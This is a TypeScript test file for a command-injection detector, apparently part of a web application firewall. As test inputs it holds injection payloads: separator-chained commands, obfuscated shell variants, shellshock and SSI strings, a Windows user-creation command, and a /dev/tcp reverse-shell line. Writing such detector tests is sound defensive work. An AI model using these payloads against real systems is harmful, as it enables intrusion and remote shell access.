import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { InputLocation, ParanoiaLevel } from '../detector.js';
import { normalize } from '../normalize.js';
import { cmdi } from './cmdi.js';
import { attackSplit, BENIGN, BENIGN_TEXT, blockRate, falsePositives } from './test-helpers/corpus.js';

function rule(value: string, paranoia: ParanoiaLevel = 1, location: InputLocation = 'query'): string | undefined {
  const hit = cmdi.detect(normalize(value), paranoia, location);
  return hit === undefined ? undefined : `${hit.rule}:${hit.score}`;
}

test('a strong command after a separator is critical', () => {
  assert.equal(rule('x;whoami'), 'cmdi.command:5');
  assert.equal(rule('x | uname -a'), 'cmdi.command:5');
  assert.equal(rule('x && wget'), 'cmdi.command:5');
});

test('a weak command needs shell-shaped arguments', () => {
  assert.equal(rule('x; cat /etc/hosts'), 'cmdi.command:5');
  assert.equal(rule('x; ls -la'), 'cmdi.command:5');
  assert.equal(rule('x & sleep 5'), 'cmdi.command:5');
  assert.equal(rule('x; cat lovers'), undefined);
  assert.equal(rule('x; cat lovers', 2), 'cmdi.command:3');
});

test('a command at the start of the value needs arguments', () => {
  assert.equal(rule('ping -c 3 127.0.0.1'), 'cmdi.command:5');
  assert.equal(rule('ping me'), undefined);
});

test('a reconnaissance command alone is critical', () => {
  assert.equal(rule('whoami'), 'cmdi.command:5');
});

test('a command behind a bin path is critical', () => {
  assert.equal(rule('x|/usr/bin/id'), 'cmdi.command:5');
});

test('quoting and empty expansions inside the word are seen through', () => {
  assert.equal(rule("x;c'a't /etc/hosts"), 'cmdi.command:5');
  assert.equal(rule('x;c\\at /etc/hosts'), 'cmdi.command:5');
  assert.equal(rule('x;who$@ami'), 'cmdi.command:5');
});

test('IFS, brace expansion and substitution are critical', () => {
  assert.equal(rule('x;cat${IFS}/etc/hosts'), 'cmdi.command:5');
  assert.equal(rule('a${IFS}b'), 'cmdi.ifs:5');
  assert.equal(rule('{cat,/etc/hosts}'), 'cmdi.command:5');
  assert.equal(rule('a$(id)'), 'cmdi.substitution:5');
  assert.equal(rule('a`uname`'), 'cmdi.substitution:5');
});

test('$( without a command is a level-2 signal', () => {
  assert.equal(rule('$(document).ready'), undefined);
  assert.equal(rule('$(document).ready', 2), 'cmdi.substitution:3');
});

test('code-execution calls, shellshock, SSI and /dev/tcp are critical', () => {
  assert.equal(rule("system('id')"), 'cmdi.code-exec:5');
  assert.equal(rule('() { :;}; echo'), 'cmdi.shellshock:5');
  assert.equal(rule('<!--#exec cmd="x"-->'), 'cmdi.ssi:5');
  assert.equal(rule('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'), 'cmdi.command:5');
  assert.equal(rule('x >/dev/tcp/h/1'), 'cmdi.reverse-shell:5');
});

test('Windows commands with their subcommand are critical', () => {
  assert.equal(rule('net user x y /add'), 'cmdi.command:5');
  assert.equal(rule('x & type C:\\boot.ini'), 'cmdi.command:5');
});

test('a newline separates commands in a query but not in JSON text', () => {
  assert.equal(rule('x\nwget', 1, 'query'), 'cmdi.command:5');
  assert.equal(rule('x\nwget', 1, 'json-value'), undefined);
});

test('a markdown table cell is not a pipe', () => {
  assert.equal(rule('| id | name |'), undefined);
});

test('prose with &, | and ; passes', () => {
  assert.equal(rule('you & me'), undefined);
  assert.equal(rule('rock; paper'), undefined);
});

test('no benign value is blocked at level 1', () => {
  const blocked = [...BENIGN.flatMap((v) => [rule(v, 1, 'query'), rule(v, 1, 'json-value')].map((r) => [v, r])), ...BENIGN_TEXT.map((v) => [v, rule(v, 1, 'json-value')])];
  assert.deepEqual(blocked.filter(([, r]) => r?.endsWith(':5')), []);
});

test('at most 1% of libinjection false positives are blocked', () => {
  assert.ok(blockRate(cmdi, falsePositives(), 'query') <= 0.01);
});

const split = attackSplit('cmdi');
for (const [half, lines] of [['tuning', split.tuning], ['held-out', split.heldOut]] as const) {
  test(`attacks/cmdi ${half}: beats CRS in query and JSON`, (t) => {
    const q = blockRate(cmdi, lines, 'query');
    const j = blockRate(cmdi, lines, 'json-value');
    t.diagnostic(`query ${q.toFixed(3)} json ${j.toFixed(3)} (CRS 0.786 / 0.780, ${lines.length} lines)`);
    assert.ok(q > 0.786 && j > 0.78);
  });
}

test('32 Ki separators are scanned in linear time', () => {
  const start = process.hrtime.bigint();
  cmdi.detect(';'.repeat(32_768), 1, 'query');
  cmdi.detect('(a'.repeat(32_768), 1, 'query');
  cmdi.detect('| x '.repeat(8_192), 1, 'query');
  assert.ok(Number(process.hrtime.bigint() - start) / 1e6 < 1000);
});

test('a command after many separators and blanks is still seen', () => {
  assert.equal(rule(`${';'.repeat(1000)}${' '.repeat(1000)}x; whoami`), 'cmdi.command:5');
});

test('separators before a long run of blanks stay linear', () => {
  const start = process.hrtime.bigint();
  cmdi.detect(`${';'.repeat(30_000)}${' '.repeat(30_000)}`, 1, 'query');
  assert.ok(Number(process.hrtime.bigint() - start) / 1e6 < 1000);
});
